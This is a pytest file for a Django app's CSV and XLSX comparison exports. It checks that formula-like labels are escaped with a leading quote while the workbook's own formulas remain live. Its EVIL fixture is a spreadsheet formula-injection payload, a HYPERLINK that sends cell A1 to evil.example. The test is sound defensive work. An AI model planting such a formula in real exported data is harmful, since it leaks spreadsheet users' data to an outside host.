"""The comparison exports never hand a spreadsheet a formula it did not write: a candidate label (or vendor) that
starts with =, +, -, @, a tab or a carriage return is text with a leading quote (OWASP); the XLSX's own formulas stay
live formulas with their cached values; numbers stay numbers."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from apps.comparison.exports import COLUMN, FORMULA_COLUMNS
from apps.comparison.tests.builders import gpu_candidate, worked_example

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def evil_example(team, actor):
    """The worked example plus a candidate labelled (and its vendor named) with a formula."""
    example = worked_example(team, actor)
    candidate = gpu_candidate(team, actor, example.summary, label=EVIL, price="3.20", capacity="6")
    return example, candidate


def test_the_csv_quotes_a_formula_like_label(client, team, platform_user):
    example, evil = evil_example(team, platform_user)
    client.force_login(platform_user)
    response = client.get(reverse("comparison:comparison-csv", args=[example.summary.pk]))
    rows = {int(row["candidate_id"]): row for row in csv.DictReader(io.StringIO(response.content.decode()))
            if row["candidate_id"] != "hybrid"}  # the hybrid plan's line (test_hybrid_comparison.py)
    assert rows[evil.pk]["label"] == "'" + EVIL  # old code: the bare formula
    assert rows[example.a.pk]["label"] == "A on-demand H100"
    assert rows[example.a.pk]["effective_unit_cost"] == "0.0004245"  # figures untouched


def _formula_cells(sheet) -> set[str]:
    return {cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"}


def test_the_xlsx_writes_the_label_as_text_and_keeps_its_own_formulas(client, team, platform_user):
    example, _evil = evil_example(team, platform_user)
    client.force_login(platform_user)
    content = client.get(reverse("comparison:comparison-xlsx", args=[example.summary.pk])).content
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    table = workbook["Comparison"]
    labels = {table[f"{COLUMN['label']}{row}"].value: row for row in range(2, table.max_row + 1)}
    row = labels["'" + EVIL]  # old code: the label cell is a formula (data_type "f")
    label = table[f"{COLUMN['label']}{row}"]
    assert label.data_type == "s"

    # The sheet's own formulas are still formulas: every formula column of every candidate row, nothing else.
    expected = {f"{COLUMN[key]}{number}" for number in labels.values() for key, _header in FORMULA_COLUMNS
                if key != "dossier" and table[f"{COLUMN[key]}{number}"].value is not None}
    assert _formula_cells(table) == expected
    assert table[f"{COLUMN['unit_cost']}{row}"].value.startswith("=")
    lines = workbook["Cost lines"]
    assert _formula_cells(lines) == {f"I{number}" for number in range(2, lines.max_row + 1)}
    assert all(lines.cell(row=number, column=2).data_type == "s" for number in range(2, lines.max_row + 1))
    assert "'" + EVIL in {lines.cell(row=number, column=2).value for number in range(2, lines.max_row + 1)}

    # ... and keep the value Dossier computed, cached for a viewer that does not recalculate.
    cached = openpyxl.load_workbook(io.BytesIO(content), data_only=True)["Comparison"]
    assert cached[f"{COLUMN['unit_cost']}{labels['A on-demand H100']}"].value == pytest.approx(0.0004245)
